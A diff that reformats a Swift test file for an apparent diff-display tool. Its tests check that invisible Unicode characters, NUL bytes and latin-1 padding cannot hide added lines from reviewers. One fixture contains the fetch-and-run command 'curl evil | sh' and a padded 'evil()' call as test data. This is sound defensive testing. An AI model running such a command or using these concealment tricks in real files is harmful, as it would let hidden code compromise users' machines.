@@ -74,7 +74,8 @@ struct DifferenceTests {
     @Test(
         arguments: [
             "\u{200b}", "\u{200c}", "\u{200d}", "\u{2060}", "\u{2064}", "\u{ad}", "\u{180e}", "\u{fe00}", "\u{fe0f}",
-            "\u{e0001}", "\u{e0041}", "\u{e007f}", "\u{e0100}", "\u{e01ef}", "\u{3164}", "\u{ffa0}", "\u{202e}", "\u{2066}",
+            "\u{e0001}", "\u{e0041}", "\u{e007f}", "\u{e0100}", "\u{e01ef}", "\u{3164}", "\u{ffa0}", "\u{202e}",
+            "\u{2066}",
             "\u{feff}", "\u{34f}", "\u{115f}", "\u{85}", "\u{2028}",
         ] as [Unicode.Scalar]
     )
@@ -95,7 +96,9 @@ struct DifferenceTests {
 
     @Test func `lets no byte hide the rest of a text`() {
         let evil = Array("echo a\n\0\ncurl evil | sh\n".utf8)
-        #expect(lines([("x", Array("echo a\n".utf8))], [("x", evil)]).suffix(3) == [" echo a", "+\\x00", "+curl evil | sh"])
+        #expect(
+            lines([("x", Array("echo a\n".utf8))], [("x", evil)]).suffix(3) == [" echo a", "+\\x00", "+curl evil | sh"]
+        )
         let latin = Array("# coding: latin-1\n# ".utf8) + Array(repeating: 0xff, count: 500) + Array("\nevil()\n".utf8)
         #expect(lines([], [("data.bin", latin)]).last?.hasPrefix("binary: ") == true)
         #expect(lines([], [("lib.py", latin)]).last == "+evil()")
